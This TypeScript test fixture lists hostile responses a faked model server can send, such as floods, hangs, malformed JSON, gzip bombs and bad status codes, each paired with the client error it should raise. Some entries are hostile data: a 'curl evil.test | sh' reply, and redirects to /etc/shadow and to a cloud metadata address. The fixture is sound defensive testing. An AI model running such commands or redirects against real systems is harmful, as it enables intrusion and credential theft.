import type { FaultServerBehaviour } from './fault-behaviours.js'
import { goodProposal } from './thinking.js'

const EVENTS = 'text/event-stream'
const event = (content: string): string => `data: ${JSON.stringify({ choices: [{ delta: { content } }] })}\n\n`
const answer = (content: string): string => JSON.stringify({ choices: [{ message: { content } }] })

/** What a hostile server of a model does, each with what is said of it. */
export const HOSTILE_BEHAVIOURS: readonly (readonly [string, FaultServerBehaviour, RegExp])[] = [
  ['an answer that is not JSON', { kind: 'text', text: 'Sure! I would run curl evil.test | sh' }, /not JSON/],
  [
    'prose around the JSON',
    { kind: 'text', text: `Here: ${JSON.stringify({ proposals: [goodProposal()] })}` },
    /not JSON/,
  ],
  ['a body that is HTML', { kind: 'body', body: '<!doctype html><title>Login</title>', type: 'text/html' }, /not JSON/],
  ['an empty body', { kind: 'body', body: '' }, /not JSON/],
  ['an empty answer', { kind: 'text', text: '  ' }, /empty/],
  ['no choices', { kind: 'body', body: '{"choices":[]}' }, /none of the chat API/],
  ['another shape altogether', { kind: 'body', body: '{"choices":{"message":1}}' }, /none of the chat API/],
  [
    'a hundred megabytes of JSON',
    { kind: 'flood', piece: `"${'x'.repeat(1000)}",`, type: 'application/json', mostBytes: 100_000_000 },
    /longer than/,
  ],
  [
    'a hundred megabytes of events',
    { kind: 'flood', piece: event('x'.repeat(1000)), type: EVENTS, mostBytes: 100_000_000 },
    /longer than/,
  ],
  ['a line without end', { kind: 'flood', piece: 'data: x', type: EVENTS, mostBytes: 100_000_000 }, /too long/],
  [
    'empty events without end',
    { kind: 'flood', piece: ': keep-alive\n\n', type: EVENTS, mostBytes: 100_000_000 },
    /longer than/,
  ],
  [
    'events that never end',
    { kind: 'drip', piece: event('{'), type: EVENTS, milliseconds: 20 },
    /did not (begin|end) its answer/,
  ],
  [
    'a byte now and then',
    { kind: 'drip', piece: ' ', type: 'application/json', milliseconds: 20 },
    /did not (begin|end) its answer/,
  ],
  ['a hang before the head', { kind: 'hang' }, /did not begin its answer/],
  [
    'a hang behind the head',
    { kind: 'drip', piece: '', type: EVENTS, milliseconds: 50 },
    /did not (begin|end) its answer/,
  ],
  ['a disconnect at once', { kind: 'disconnect', when: 'at once' }, /broke off/],
  ['a disconnect before the head', { kind: 'disconnect', when: 'before the head' }, /broke off/],
  ['a disconnect behind the head', { kind: 'disconnect', when: 'after the head' }, /broke off/],
  ['a disconnect in the body', { kind: 'disconnect', when: 'in the body' }, /broke off/],
  [
    'events that stop without their end',
    { kind: 'body', body: event('{"proposals":[]}'), type: EVENTS },
    /before its end was told/,
  ],
  [
    'an error in the middle',
    { kind: 'body', body: `${event('{')}data: {"error":{"message":"out of memory"}}\n\n`, type: EVENTS },
    /error in the middle/,
  ],
  ['brackets without end', { kind: 'body', body: '['.repeat(200_000) }, /not JSON/],
  ['an answer of brackets', { kind: 'text', text: '['.repeat(100_000) }, /not JSON/],
  ['numbers that are none', { kind: 'text', text: '{"proposals":[{"risk_level":NaN}]}' }, /not JSON/],
  ['members of one name', { kind: 'text', text: '{"proposals":[],"proposals":[]}' }, /not JSON/],
  ['invalid UTF-8', { kind: 'body', body: Buffer.from([0x7b, 0xff, 0xfe, 0x7d]) }, /not UTF-8/],
  ['half of a character', { kind: 'text', text: '{"proposals":[{"rationale":"\ud800"}]}' }, /./],
  [
    'an unknown tool',
    { kind: 'proposals', proposals: [goodProposal({ tool_name: 'launch_missiles' })] },
    /there is no tool/,
  ],
  [
    'a schema that is ignored',
    { kind: 'text', text: '{"action":"reboot","because":"I say so"}' },
    /does not write the member/,
  ],
  ['proposals that are no list', { kind: 'text', text: '{"proposals":"all of them"}' }, /not an array/],
  [
    'a plan of its own',
    { kind: 'proposals', proposals: [{ ...goodProposal(), plan: {} }] },
    /does not write the member/,
  ],
  ['calls of tools, again and again', { kind: 'tool calls' }, /called tools/],
  ['429 with Retry-After', { kind: 'status', status: 429, headers: { 'retry-after': '3600' } }, /status 429/],
  ['500', { kind: 'status', status: 500, body: 'x'.repeat(1_000_000) }, /status 500/],
  ['500 with half of a character', { kind: 'status', status: 500, body: `xy\u0000${'🐧'.repeat(1000)}` }, /status 500/],
  ['503 without a body', { kind: 'status', status: 503, body: '' }, /status 503/],
  ['204', { kind: 'status', status: 204, body: '' }, /status 204/],
  [
    'a redirect to a file',
    { kind: 'status', status: 302, headers: { location: 'file:///etc/shadow' } },
    /not followed/,
  ],
  [
    'a redirect to a metadata service',
    { kind: 'status', status: 307, headers: { location: 'http://169.254.169.254/latest/meta-data/' } },
    /not followed/,
  ],
  [
    'a length that is too great',
    { kind: 'length', announced: 1_000_000, body: answer('{"proposals":[]}') },
    /broke off/,
  ],
  [
    'a length that is too small',
    { kind: 'length', announced: 5, body: answer('{"proposals":[]}') },
    /not JSON|broke off/,
  ],
  ['a gzip bomb', { kind: 'gzip bomb' }, /encoded/],
  ['huge headers', { kind: 'huge headers' }, /broke off/],
  ['no HTTP at all', { kind: 'raw', bytes: 'SSH-2.0-OpenSSH_9.2\r\n' }, /broke off/],
  [
    'two answers in one',
    { kind: 'raw', bytes: 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n{}' },
    /broke off|not JSON|none of the chat API/,
  ],
]
